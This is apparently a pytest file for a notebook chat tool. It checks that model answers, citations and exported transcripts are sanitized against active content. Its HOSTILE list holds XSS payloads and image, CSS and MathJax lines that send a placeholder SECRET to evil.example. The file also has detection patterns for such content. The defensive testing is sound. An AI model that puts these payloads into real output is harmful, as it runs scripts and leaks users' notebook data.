"""Model text and retrieved documents cannot carry script, event handlers or javascript: links into a notebook,
nor make it fetch anything (a remote image, a data: URI, an SVG <image>, a CSS url(...), a MathJax \\href or
\\style) before the reader clicks: in any format, in the panel's answers and passages, in exported transcripts."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from sage_magic.chat.reply import Reply
from sage_magic.notebook import render

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<svg onload=alert(1)></svg>",
    "<div style='x' onclick='alert(1)'>hi</div>",
    "![x](javascript:alert(1))",
    "<a href=\"vbscript:msgbox(1)\">v</a>",
    # fetched the moment they render, carrying notebook data in the URL
    "![](https://evil.example/?q=SECRET)",
    "![logo][r]\n\n[r]: https://evil.example/r.png",
    "<img src='https://evil.example/?q=SECRET'>",
    "<img src=/api/contents>",
    "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "<svg><image href='https://evil.example/i.png'/></svg>",
    "<svg><image xlink:href='https://evil.example/i.png'/></svg>",
    "<div style=\"background-image: url('https://evil.example/?q=SECRET')\">x</div>",
    "<style>p { background: url(https://evil.example/s) }</style>",
    "<video poster='https://evil.example/p.png'></video>",
    "<link rel=stylesheet href='https://evil.example/s.css'>",
    "$$\\href{https://evil.example/?q=SECRET}{click}$$",
    "$$\\style{background-image: url(https://evil.example/s)}{x}$$",
    "$$\\bbox[background-image: url(https://evil.example/b)]{x}$$",
    "$$\\require{https://evil.example/ext.js} x$$",
    "$$\\includegraphics{https://evil.example/g.png}$$",
    "$$\\def\\s{\\style} \\s{color:red}{x}$$",
]

#: MathJax commands that link, load or style (a CSS url(...) is fetched) in a text/latex output.
_TEX_ACTIVE = re.compile(r"\\(href|url|style|class|cssId|bbox|require|includegraphics|def|let|newcommand)"
                         r"(?![A-Za-z])")
#: Elements a browser fetches something for, or runs.
_FETCHING = {"img", "image", "svg", "video", "audio", "source", "picture", "track", "link", "object", "embed",
             "iframe", "frame", "input", "style", "script", "form", "meta", "base"}


class _Active(HTMLParser):
    """Collects what a browser would run or fetch: such elements, on* attributes, script-protocol URLs, any
    source attribute, a link on anything but <a>, and CSS url(...)."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FETCHING:
            self.found.append(tag)
        for name, value in attrs:
            url = (value or "").strip().lower().replace("\t", "").replace("\n", "")
            if (name.startswith("on") or url.startswith(("javascript:", "vbscript:", "data:text"))
                    or name in ("src", "srcset", "poster", "background", "xlink:href", "data", "action")
                    or (name == "href" and tag != "a") or "url(" in url):
                self.found.append(f"{tag} {name}={value}")


def _unsafe(fragment: str) -> list[str]:
    parser = _Active()
    parser.feed(fragment)
    return parser.found


def _unsafe_bundle(bundle: dict) -> list[str]:
    """What any rich part of an output would run or fetch: its HTML, and the TeX MathJax would typeset."""
    return _unsafe(bundle.get(render.MIME, "")) + _TEX_ACTIVE.findall(bundle.get("text/latex", ""))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("fmt", render.FORMATS)
def test_no_format_lets_active_content_through(text: str, fmt: str) -> None:
    bundle = render.body(f"Here you go:\n\n{text}\n", fmt)
    assert not _unsafe_bundle(bundle), bundle
    assert set(bundle) - {"text/plain"}, bundle  # something rich is shown: the text is not just dropped


@pytest.mark.parametrize("text", HOSTILE)
def test_answers_citations_and_panel_passages_fetch_nothing(text: str) -> None:
    from sage_magic.notebook.panel import reply_html

    reply = Reply(f"See [1]. {text}", model="m", prompt="q",
                  citations=[{"n": 1, "source": text, "location": text, "score": 0.5, "text": text}])
    for fmt in render.FORMATS:
        bundle, _ = render.answer(reply, fmt)
        assert not _unsafe_bundle(bundle) and not _unsafe_bundle(render.footer(reply)), (fmt, bundle)
    assert not _unsafe(reply_html(reply))
    assert not _unsafe(render.compare(["m"], {}, [reply])[render.MIME])


@pytest.mark.parametrize("text", HOSTILE)
def test_an_exported_markdown_transcript_fetches_nothing_when_viewed(text: str, tmp_path) -> None:
    """A Markdown viewer (JupyterLab's included) renders raw HTML and images: the file must hold neither."""
    from markdown_it import MarkdownIt

    from sage_magic.chat.transcript import export

    turn = {"prompt": f"Summarise {text}", "answer": f"Done. {text}\n\n```\n<img src=kept-in-code>\n```",
            "model": "m", "cancelled": False, "citations": [{"n": 1, "source": text, "location": text}]}
    written = export([turn], tmp_path / "chat.md").read_text()
    viewed = MarkdownIt("commonmark", {"html": True}).render(written)
    assert not _unsafe(viewed), viewed
    assert "<img src=kept-in-code>" in written  # code is kept as written


def test_remote_images_become_links_to_them() -> None:
    html = render.markdown_html("![chart](https://example.org/c.png)")
    assert '<a href="https://example.org/c.png" title="https://example.org/c.png">[image: chart]</a>' in html
    assert "[image]" in render.sanitize("<img src='data:image/png;base64,AA'>")


def test_math_is_latex_and_formulas_that_link_or_style_are_shown_as_text() -> None:
    assert render.body("$$\\frac{a}{b}$$", "math") == {"text/plain": "$$\\frac{a}{b}$$",
                                                         "text/latex": "$$\n\\frac{a}{b}\n$$"}
    bundle = render.body("\\href{https://evil.example}{x}", "math")
    assert "text/latex" not in bundle and "could link, load or style" in bundle[render.MIME]


def test_raw_html_in_markdown_shows_as_text() -> None:
    html = render.markdown_html("**bold** <b>raw</b> <script>x()</script>")
    assert "<strong>bold</strong>" in html
    assert "&lt;b&gt;raw&lt;/b&gt;" in html and "<script" not in html


def test_markdown_keeps_safe_links_tables_and_code() -> None:
    html = render.markdown_html("[docs](https://example.org)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n```")
    assert '<a href="https://example.org">docs</a>' in html
    assert "<table>" in html and "<td>1</td>" in html
    assert "x = 1" in html


def test_code_is_taken_from_fences() -> None:
    text = "Sure:\n```python\nprint('a')\n```\nand\n```\nprint('b')\n```\nDone."
    assert render.extract_code(text) == "print('a')\n\nprint('b')"
    assert render.extract_code("print(1)") == "print(1)"


def test_footer_and_citations_show_the_figures_and_sources() -> None:
    reply = Reply("See [1].", model="demo_expert", prompt="q",
                  citations=[{"n": 1, "source": "README.md", "location": "Install > GPU", "score": 0.5}],
                  metrics={"base": "demo-base", "prompt_tokens": 40, "completion_tokens": 9, "ttft_s": 0.125,
                           "tokens_per_s": 30.5, "context_used": 49, "max_model_len": 512}, cancelled=True)
    bundle, metadata = render.answer(reply, "markdown")
    for expected in ("demo_expert on demo-base", "40 tokens in, 9 out", "first token 125 ms", "30.5 tok/s",
                     "context 49/512", "stopped", "README.md", "Install &gt; GPU"):
        assert expected in bundle[render.MIME], expected
    assert "[1] README.md (Install > GPU)" in bundle["text/plain"]
    assert metadata["sage"]["model"] == "demo_expert" and metadata["sage"]["citations"][0]["source"] == "README.md"


def test_json_answers_become_json_and_invalid_ones_say_so() -> None:
    assert render.body('```json\n{"a": 1}\n```', "json")["application/json"] == {"a": 1}
    assert "not valid JSON" in render.body("{oops", "json")[render.MIME]


def test_compare_table_escapes_streaming_text() -> None:
    bundle = render.compare(["a", "b"], {"a": "<script>x</script>", "b": "ok"})
    assert "<script" not in bundle[render.MIME] and "&lt;script&gt;" in bundle[render.MIME]
